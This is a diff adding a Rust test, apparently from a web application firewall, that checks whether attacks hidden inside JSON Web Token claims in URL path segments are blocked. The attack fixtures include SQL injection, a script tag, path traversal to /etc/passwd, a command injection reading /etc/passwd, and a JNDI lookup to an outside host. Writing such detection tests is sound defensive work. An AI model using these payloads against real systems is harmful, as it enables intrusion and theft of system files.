@@ -1230,3 +1230,50 @@ fn template_string_building_probes() {
         ],
     );
 }
+
+/// Whether a GET of `path` is blocked.
+fn path_blocked(path: &str) -> bool {
+    common::blocked("GET", path, "", &[("Host", b"shop.example")], b"")
+}
+
+/// Session 11: a JSON Web Token in a segment of the request path (a
+/// password-reset or e-mail-verification link: `/reset/<token>`,
+/// `/verify/<token>/confirm`) was never read: the extractor builds path
+/// segments only for paths with suspicious bytes, and a token has none.
+/// The JWT readers now read the request path, each segment a candidate.
+/// Before: score 0 each.
+#[test]
+fn attacks_inside_jwt_claims_in_the_path() {
+    let attacks = [
+        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
+        r#"{"name":"<script>alert(1)</script>"}"#,
+        r#"{"kid":"../../../../etc/passwd"}"#,
+        r#"{"kid":"key;cat /etc/passwd"}"#,
+        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
+    ];
+    let benign = [
+        r#"{"user":"alice","role":"user","exp":1700000000}"#,
+        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
+        r#"{"email":"a.b@example.com","purpose":"reset","path":"/account/orders"}"#,
+    ];
+    for (expect, claims) in [(true, &attacks[..]), (false, &benign[..])] {
+        for c in claims {
+            let t = jwt(c);
+            for path in [
+                format!("/reset/{t}"),
+                format!("/verify/{t}/confirm"),
+                format!("/api/v1/links/{t};lang=en"),
+            ] {
+                assert_eq!(path_blocked(&path), expect, "{path} ({c})");
+            }
+        }
+    }
+    // Paths holding `ey` and dots but no token pass.
+    for path in [
+        "/keys/eyeliner.v2/index.html",
+        "/money/ey.js",
+        "/static/eyJ.css",
+    ] {
+        assert!(!path_blocked(path), "{path}");
+    }
+}
